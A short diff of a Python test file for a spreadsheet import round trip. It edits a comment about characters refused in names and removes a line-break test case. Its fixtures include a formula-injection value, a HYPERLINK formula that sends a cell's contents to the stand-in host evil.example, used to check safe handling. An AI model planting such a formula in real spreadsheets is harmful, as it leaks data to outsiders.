@@ -18,8 +18,9 @@ from recovery.estate.tests.test_import import make_workbook
 
 EVIL = '=HYPERLINK("https://evil.example/?leak="&B2,"Open")'
 
-# Every class of awkward text a name may hold (control, bidi and zero-width characters are
-# refused in names by the import, so they are not names a round trip can carry).
+# Every class of awkward text a name may hold (control characters, line breaks included, and
+# bidi and zero-width characters are refused in names by the import engine, so they are not
+# names a round trip can carry).
 AWKWARD_NAMES = {
     "formula": "=1+1",
     "link formula": EVIL,
@@ -36,7 +37,6 @@ AWKWARD_NAMES = {
     "exponent-like": "1e5",
     "date-like": "2020-02-30",
     "boolean-like": "TRUE",
-    "inner line break": "Ostmere\nNorth",
     "longest": "N" * 199 + "=",
 }
 
